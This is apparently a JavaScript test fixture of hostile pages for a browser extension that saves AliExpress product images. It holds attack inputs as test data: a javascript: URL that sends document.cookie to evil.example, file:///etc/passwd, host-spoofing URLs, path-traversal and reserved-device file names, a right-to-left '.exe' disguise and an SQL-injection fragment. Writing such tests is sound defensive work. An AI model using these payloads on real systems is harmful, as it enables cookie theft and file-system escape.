// Pages the privacy and hostile-input suites add to the test shop
// (`startShop({ extraPages })`, keyed by host + path). Product ids
// 10050090000000NN are used by no other fixture.
//
// Two sets:
// - NON_PRODUCT_PAGES: shop pages where the extension must not run at all
//   (checkout, account, orders, sign-in...), beside the ones shop.mjs serves.
// - HOSTILE: product pages built to attack or confuse the extension, each with
//   what the user must see and what may land on disk.

const html = (head, body = '') => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Synthetic hostile page</title>${head}</head><body>${body}</body></html>`;
const script = (text) => `<script>${text}</script>`;
const runParams = (data) => script(`window.runParams = {data: ${JSON.stringify(data)}};`);

/** A CDN image URL only this suite uses: `ae01.alicdn.com/kf/S<tag><n padded>.jpg`. */
export function cdnImage(tag, n, ext = 'jpg') {
  return `https://ae01.alicdn.com/kf/S${tag}${String(n).padStart(32 - tag.length, '0')}.${ext}`;
}

// ---------------------------------------------------------------------------
// Shop pages that are not product pages (content script must not run there).

/** host + path of every non-product shop page the privacy suite visits, beside shop.mjs's own. */
export const NON_PRODUCT_PAGES = {
  // Checkout-like: a product page embedded in an iframe must not get the script either (top frame only).
  'www.aliexpress.com/p/trade/confirm.html': {
    body: html('', `<h1>Checkout</h1><form method="post" action="/p/trade/pay">
<input name="card" autocomplete="cc-number"><input name="cvc"><input name="address">
<button>Pay</button></form>
<iframe src="https://www.aliexpress.com/item/1005004787627817.html" width="300" height="200"></iframe>`),
  },
  'www.aliexpress.com/p/order/index.html': { body: html('', '<h1>Your orders</h1><table><tr><td>Order 8000000000000001</td></tr></table>') },
  'www.aliexpress.com/p/user/profile.html': { body: html('', '<h1>Account</h1><form><input name="email" type="email"><input name="phone"></form>') },
  'www.aliexpress.us/p/shoppingcart/index.html': { body: html('', '<h1>Cart (US)</h1>') },
  'login.aliexpress.ru/': { body: html('', '<form><input name="login"><input name="password" type="password"></form>') },
  'login.alibaba.com/': { body: html('', '<form><input name="account"><input name="password" type="password"></form>') },
  'message.alibaba.com/message/default.htm': { body: html('', '<h1>Messages</h1><textarea name="reply"></textarea>') },
  // Under /item/ (so Chrome injects the script) but not a product page: no button.
  'www.aliexpress.com/item/not-a-product.html': { body: html('', '<h1>Not a product</h1>') },
};

/** Non-product shop pages (URL set): no button, no extension execution context. */
export const NON_PRODUCT_URLS = [
  // served by shop.mjs
  'https://www.aliexpress.com/',
  'https://www.aliexpress.com/p/shoppingcart/index.html',
  'https://www.aliexpress.com/w/wholesale-phone.html',
  'https://login.aliexpress.com/',
  'https://www.alibaba.com/',
  // served from NON_PRODUCT_PAGES
  'https://www.aliexpress.com/p/trade/confirm.html',
  'https://www.aliexpress.com/p/order/index.html',
  'https://www.aliexpress.com/p/user/profile.html',
  'https://www.aliexpress.us/p/shoppingcart/index.html',
  'https://login.aliexpress.ru/',
  'https://login.alibaba.com/',
  'https://message.alibaba.com/message/default.htm',
];

// ---------------------------------------------------------------------------
// Hostile product pages.

const AE = (id) => `www.aliexpress.com/item/${id}.html`;

// Truncated and garbage page JSON.
const TRUNCATED_ONLY = '1005009000000001';
const TRUNCATED_WITH_DOM = '1005009000000002';
const GARBAGE = '1005009000000003';
// 10 000 entries of each kind.
const FLOOD = '1005009000000004';
// Dangerous schemes and off-CDN URLs.
const SCHEMES = '1005009000000005';
// Hostile names.
const NAMES = '1005009000000006';
// Host element fights.
const FIGHT_OBSERVER = '1005009000000007';
const FIGHT_IMPOSTOR = '1005009000000008';
// Forged messages and events.
const FORGERY = '1005009000000009';
// Hostile settings in storage (a plain page; the settings are the input).
const SETTINGS = '1005009000000010';

/** A truncated data object, with nothing else: nothing to save, and the user is told. */
const truncatedOnly = {
  id: TRUNCATED_ONLY,
  url: `https://${AE(TRUNCATED_ONLY)}`,
  body: html(script(`window.runParams = {data: {"imageComponent":{"imagePathList":["${cdnImage('trunc', 1)}","${cdnImage('trunc', 2)}`)),
  started: 0,
};

/** Truncated data, but the rendered description is in the DOM: those images are not lost. */
const truncatedWithDom = {
  id: TRUNCATED_WITH_DOM,
  url: `https://${AE(TRUNCATED_WITH_DOM)}`,
  body: html(
    script(`window.runParams = {data: {"imageComponent":{"imagePathList":["${cdnImage('trdom', 9)}", {"x": [1, 2, `),
    `<div id="product-description"><p><img src="${cdnImage('trdom', 1)}"></p><p><img src="${cdnImage('trdom', 2)}_640x640.jpg"></p></div>`,
  ),
  description: [cdnImage('trdom', 1), cdnImage('trdom', 2)],
};

/** Garbage of every kind in the data scripts; one well-formed source after them is still read. */
const garbage = {
  id: GARBAGE,
  url: `https://${AE(GARBAGE)}`,
  body: html([
    script('window.runParams = {data: {{{{]]]]}}}};'),
    script('window._d_c_ = {}; window._d_c_.DCData = "\\u0000\\uffff" + [][0];'),
    script(`window.runParams = {data: ${'['.repeat(5000)}};`),
    script('window.runParams = {data: {"imageComponent": {"imagePathList": [null, 1, true, {}, [], "", "   "]}}};'),
    script('window.runParams = {data: {"imageComponent": {"imagePathList": "not a list"}, "skuComponent": 7, "videoComponent": {"videoUid": {"a": 1}, "videoId": "1; DROP TABLE"}}};'),
    `<script type="application/json" id="__AER_DATA__">\u0000\u0001 not json</script>`,
    script('window.detailData = NaN;'),
    runParams({ imageComponent: { imagePathList: [cdnImage('garb', 1)] } }),
  ].join('\n'), '<p>\u0000\ufffd\ud800 garbage text</p>'),
  gallery: [cdnImage('garb', 1)],
};

/** 10 000 gallery, 10 000 variant and 10 000 description entries. */
function floodPage() {
  const gallery = Array.from({ length: 10_000 }, (_, i) => cdnImage('fg', i));
  const values = Array.from({ length: 10_000 }, (_, i) => ({
    propertyValueName: `v${i}`, skuPropertyImagePath: cdnImage('fv', i),
  }));
  // Lazy-loaded (data-src, as the shops do), so the page itself does not load 10 000 images.
  const desc = Array.from({ length: 10_000 }, (_, i) => `<img data-src="${cdnImage('fd', i)}">`).join('');
  return html(runParams({
    imageComponent: { imagePathList: gallery },
    skuComponent: { productSKUPropertyList: [{ skuPropertyName: 'Color', skuPropertyValues: values }] },
  }), `<div id="product-description">${desc}</div>`);
}
const flood = {
  id: FLOOD,
  url: `https://${AE(FLOOD)}`,
  get body() { return floodPage(); },
  // The extractor keeps 1000 per kind; the worker starts at most 2000 per save,
  // in kind order (gallery, variant, description, video).
  gallery: Array.from({ length: 1000 }, (_, i) => cdnImage('fg', i)),
  variants: Array.from({ length: 1000 }, (_, i) => cdnImage('fv', i)),
  refusedDescription: 1000,
};

/** URLs that must never be fetched or saved, in every place the extractor reads URLs. */
export const BAD_URLS = [
  'javascript:alert(document.cookie)',
  'JaVaScRiPt:fetch("https://evil.example/?c="+document.cookie)',
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'file:///etc/passwd',
  'file:///C:/Windows/win.ini',
  'blob:https://www.aliexpress.com/1e2d3c4b-0000-0000-0000-000000000000',
  'https://evil.example/kf/Sevil.jpg',
  '//evil.example/kf/Sevil2.jpg',
  'https://ae01.alicdn.com.evil.example/kf/Sevil3.jpg',
  'https://ae01.alicdn.com@evil.example/kf/Sevil4.jpg',
  'https://ae01.alicdn.com:8443/kf/Sevil5.jpg',
  'https://127.0.0.1/kf/Sevil6.jpg',
  'https://www.aliexpress.com/kf/Soffcdn1.jpg', // a shop host, but not a media CDN
  'https://login.aliexpress.com/kf/Soffcdn2.jpg',
  'https://aeproductsourcesite.alicdn.com/kf/Soffcdn3.jpg', // description documents, not media
  'https://ae01.alicdn.com/kf/Sevil7.exe',
  'https://ae01.alicdn.com/kf/Sevil8.jpg\\@evil.example',
  'https://ae01.alicdn.com/kf/Sevil9.jpg\u0000.exe',
];

function schemesPage() {
  const good = [cdnImage('sch', 1), cdnImage('sch', 2)];
  return html(runParams({
    imageComponent: { imagePathList: [...BAD_URLS.slice(0, 9), good[0], ...BAD_URLS.slice(9)] },
    skuComponent: { productSKUPropertyList: [{ skuPropertyName: 'Color', skuPropertyValues: BAD_URLS.map((u, i) => ({ propertyValueName: `bad${i}`, skuPropertyImagePath: u })) }] },
    videoComponent: { videoUid: '../../evil', videoId: '123' },
    descriptionModule: { descriptionUrl: 'https://evil.example/steal-desc.htm?c=' },
    productDescComponent: { descriptionUrl: 'javascript:alert(1)' },
  }), `<div id="product-description">${BAD_URLS.map((u) => `<img src="${u.replace(/"/g, '&quot;')}"><video src="${u.replace(/"/g, '&quot;')}"></video>`).join('')}
<img src="${good[1]}"></div>`);
}
const schemes = {
  id: SCHEMES,
  url: `https://${AE(SCHEMES)}`,
  get body() { return schemesPage(); },
  gallery: [cdnImage('sch', 1)],
  description: [cdnImage('sch', 2)],
};

/** Variant names (they become file names) and a title made to escape the folder or break file systems. */
export const HOSTILE_NAMES = [
  '../../../../../../tmp/alisave-escape',
  '..',
  '.',
  'CON',
  'NUL.txt',
  'aux',
  'LPT1',
  'com9.jpg',
  '..\\..\\Windows\\System32',
  '/etc/passwd',
  'C:\\evil',
  'a/b\\c:d*e?f"g<h>i|j',
  '\u202Egpj.exe',
  '\u0000\u0007\u001b[31m',
  '   ',
  '.hidden',
  'trailing dot.',
  '😀'.repeat(1000),
  'x'.repeat(5000),
  '%2e%2e%2f%2e%2e%2f',
  'ＣＯＮ', // full-width
  'name with\nnewline',
];
const hostileTitle = `${'../'.repeat(40)}CON NUL ${'😀'.repeat(1000)}`;
function namesPage() {
  return html(
    `${runParams({
      imageComponent: { imagePathList: [cdnImage('nmg', 1)] },
      titleModule: { subject: hostileTitle },
      productInfoComponent: { subject: hostileTitle },
      storeModule: { storeName: '../../store' },
      skuComponent: { productSKUPropertyList: [{ skuPropertyName: '../axis', skuPropertyValues: HOSTILE_NAMES.map((n, i) => ({ propertyValueDisplayName: n, skuPropertyImagePath: cdnImage('nmv', i) })) }] },
    })}`,
    `<h1>${hostileTitle.replace(/</g, '&lt;')}</h1>`,
  ).replace('<title>Synthetic hostile page</title>', `<title>${hostileTitle}</title>`);
}
const names = {
  id: NAMES,
  url: `https://${AE(NAMES)}`,
  get body() { return namesPage(); },
  gallery: [cdnImage('nmg', 1)],
  variants: HOSTILE_NAMES.map((_, i) => cdnImage('nmv', i)),
};

/** Removes the button's host on every DOM mutation, for 3 s (or 100 000 removals), then stops. */
const fightObserver = {
  id: FIGHT_OBSERVER,
  url: `https://${AE(FIGHT_OBSERVER)}`,
  body: html(`${runParams({ imageComponent: { imagePathList: [cdnImage('fob', 1)] } })}
${script(`window.removed = 0; window.fightEnds = Date.now() + 3000;
new MutationObserver(function (records, observer) {
  if (Date.now() > window.fightEnds || window.removed >= 100000) { observer.disconnect(); window.fightDone = true; return; }
  const host = document.getElementById('alisave-root');
  if (host) { host.remove(); window.removed++; }
}).observe(document.documentElement, { childList: true, subtree: true });`)}`, '<h1>Fight</h1>'),
  gallery: [cdnImage('fob', 1)],
};

/** Every 2 ms for 3 s: deletes the host and puts an impostor element with the same id in its place; leaves the impostor. */
const fightImpostor = {
  id: FIGHT_IMPOSTOR,
  url: `https://${AE(FIGHT_IMPOSTOR)}`,
  body: html(`${runParams({ imageComponent: { imagePathList: [cdnImage('fim', 1)] } })}
${script(`window.removed = 0;
const timer = setInterval(function () {
  const host = document.getElementById('alisave-root');
  if (host) { host.remove(); window.removed++; }
  const impostor = document.createElement('div');
  impostor.id = 'alisave-root';
  impostor.textContent = 'impostor';
  document.documentElement.appendChild(impostor);
}, 2);
setTimeout(function () { clearInterval(timer); window.fightDone = true; }, 3000);`)}`, '<h1>Impostor</h1>'),
  gallery: [cdnImage('fim', 1)],
};

/** A plain product page; the test's page script forges messages and events from the main world. */
const forgery = {
  id: FORGERY,
  url: `https://${AE(FORGERY)}`,
  body: html(runParams({ imageComponent: { imagePathList: [cdnImage('frg', 1)] } }), '<h1>Forgery</h1>'),
  gallery: [cdnImage('frg', 1)],
};

/** A plain product page, saved while chrome.storage.local holds hostile settings. */
const settingsPage = {
  id: SETTINGS,
  url: `https://${AE(SETTINGS)}`,
  body: html(runParams({ imageComponent: { imagePathList: [cdnImage('set', 1), cdnImage('set', 2)] } }), '<h1>Settings</h1>'),
  gallery: [cdnImage('set', 1), cdnImage('set', 2)],
};

export const HOSTILE = {
  truncatedOnly, truncatedWithDom, garbage, flood, schemes, names, fightObserver, fightImpostor, forgery, settingsPage,
};

/** extraPages for startShop: every hostile product page. */
export function hostilePages() {
  const out = {};
  for (const p of Object.values(HOSTILE)) out[p.url.replace(/^https:\/\//, '')] = { body: p.body };
  return out;
}
